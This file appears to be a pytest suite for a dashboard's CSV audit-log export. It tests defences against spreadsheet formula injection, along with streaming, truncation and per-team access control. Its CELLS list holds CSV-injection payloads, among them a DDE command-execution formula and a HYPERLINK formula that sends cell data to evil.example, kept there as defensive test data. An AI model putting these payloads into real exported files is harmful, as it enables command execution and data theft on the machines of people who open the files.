"""Numbers 81 and 82: files that a spreadsheet opens, and files that nobody waits for."""

from __future__ import annotations

import csv
import io
import re
from itertools import islice
from typing import Any

import pytest

from storage.model.accounts import Actor, Role
from storage.repositories import audit
from storage.store import Store
from storage.table import Put
from tests.dashboard.bad_inputs.scene import Scene
from tests.dashboard.visiting import Visitor
from tests.factories import BY, NOW, Clock, a_member, a_team

CELLS = {
    "81-equals": "=cmd|' /C calc'!A0",
    "81-plus": "+1",
    "81-minus": "-1",
    "81-at": "@SUM(1+1)",
    "81-tab": "\t=1+1",
    "81-return": "\r=1+1",
    "81-line": "\n=1+1",
    "81-full-width": "＝1+1",
    "81-quote": '"=1+1',
    "81-quotes": '","=1+1","',
    "81-newline-inside": "a\n=1+1",
    "81-return-inside": "a\r\n=1+1",
    "81-semicolon": "a;=1+1",
    "81-comma": "a,=1+1",
    "81-nul": "\x00=1+1",
    "81-40-kb": "=" + "1+" * 20_480,
    "81-link": '=HYPERLINK("http://evil.example?x="&A1)',
}
FORMULA = re.compile(r"[=+\-@\t\r\n＝＋－＠]")


def rows_of(answer: Any) -> list[list[str]]:
    assert answer["Content-Type"] == "text/csv; charset=utf-8"
    assert answer["Content-Disposition"] == 'attachment; filename="audit.csv"'
    assert answer["Cache-Control"] == "no-store"
    return list(csv.reader(io.StringIO(b"".join(answer).decode(), newline="")))


@pytest.mark.parametrize("cell", CELLS.values(), ids=CELLS)
def test_cell_is_text_to_every_spreadsheet(visitor: Visitor, scene: Scene, cell: str) -> None:
    """Also to one that takes a semicolon for the end of a cell."""
    store, team = scene.store, scene.team
    who = Actor("", cell, "127.0.0.1")
    noted = audit.entry(
        who, NOW, cell[:80], cell, team_id=team.id, before=((cell, ""),), after=((cell[:80], cell[:80]),)
    )
    store.table.transact([audit.put(noted)])
    for path in ("/manage/audit.csv", f"/manage/teams/{team.id}/audit.csv"):
        raw = b"".join(visitor.get(path)).decode()
        rows = list(csv.reader(io.StringIO(raw, newline="")))
        assert {len(row) for row in rows} == {10}
        written = [text for row in rows for text in row]
        assert any(text.replace("'", "")[:2] == cell.replace("\x00", "")[:2] for text in written)
        assert max(map(len, written)) <= 32_767
        for delimiter in ",;\t":
            read = csv.reader(io.StringIO(raw, newline=""), delimiter=delimiter)
            assert [text for row in read for text in row if FORMULA.match(text)] == [], delimiter


def test_81_words_that_people_typed_are_in_the_file_harmless(visitor: Visitor, scene: Scene, clock: Clock) -> None:
    clock.move(1000)
    form = {"name": "=1+1", "slug": "payments", "is_open": "open"}
    assert visitor.post(f"/manage/teams/{scene.team.id}", form).status_code == 303
    rows = rows_of(visitor.get(f"/manage/teams/{scene.team.id}/audit.csv"))
    assert rows[1][3:5] == ["team.changed", "'=1+1"]
    assert "name: =1+1" in rows[1][7]
    assert visitor.user is not None
    assert rows[1][9] == visitor.user.id


def many(store: Store, count: int, team_id: str = "") -> None:
    for start in range(0, count, 90):
        entries = [audit.entry(BY, NOW - n, "tried", str(n), team_id=team_id) for n in range(start, start + 90)]
        writes: list[Put] = [audit.put(entry) for entry in entries]
        store.table.transact(writes)


def test_82_export_that_is_cancelled_half_way_reads_no_further(
    visitor: Visitor, scene: Scene, monkeypatch: pytest.MonkeyPatch
) -> None:
    many(scene.store, 10_080, scene.team.id)
    calls: list[int] = []
    query = scene.store.table.engine.query

    def counted(*args: Any) -> Any:
        calls.append(1)
        return query(*args)

    monkeypatch.setattr(scene.store.table.engine, "query", counted)
    for path in ("/manage/audit.csv", f"/manage/teams/{scene.team.id}/audit.csv"):
        calls.clear()
        answer = visitor.get(path)
        before = len(calls)
        assert len(list(islice(answer.streaming_content, 1001))) == 1001
        answer.close()
        assert len(calls) - before <= 6
        whole = rows_of(visitor.get(path))
        assert len(whole) > 10_080
        assert len({row[4] for row in whole if row[3] == "tried"}) == 10_080


def test_82_export_that_is_cut_says_so(visitor: Visitor, scene: Scene, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("dashboard.views.manage.audit.MOST_EXPORTED", 300)
    many(scene.store, 410, scene.team.id)
    rows = rows_of(visitor.get("/manage/audit.csv"))
    assert 300 <= len(rows) - 2 < 410
    assert rows[-1][0].startswith("There is more than 300 entries")


def test_82_export_of_a_team_without_rows_is_its_heading(visitor: Visitor, store: Store) -> None:
    team = a_team(store)
    for query in ("?who=nobody", "?action=%00", "?outcome=none", "?who=" + "x" * 5000):
        rows = rows_of(visitor.get(f"/manage/teams/{team.id}/audit.csv{query}"))
        assert rows == [["time", "who", "from", "action", "what", "team", "before", "after", "outcome", "user id"]]


def test_82_export_of_one_team_holds_nothing_of_another(store: Store) -> None:
    ours, theirs = a_team(store), a_team(store, "Ledger", "ledger")
    manager = Visitor(store, a_member(store, ours, Role.MANAGER))
    rows = rows_of(manager.get(f"/manage/teams/{ours.id}/audit.csv"))
    assert {row[5] for row in rows[1:]} == {ours.id}
    assert manager.get("/manage/audit.csv").status_code == 403
    assert manager.get(f"/manage/teams/{theirs.id}/audit.csv").status_code == 403


@pytest.mark.parametrize("path", ["/manage/teams/none/audit.csv", "/manage/teams/a%23b/audit.csv"])
def test_82_export_of_no_team_is_not_found(visitor: Visitor, path: str) -> None:
    assert visitor.get(path).status_code == 404
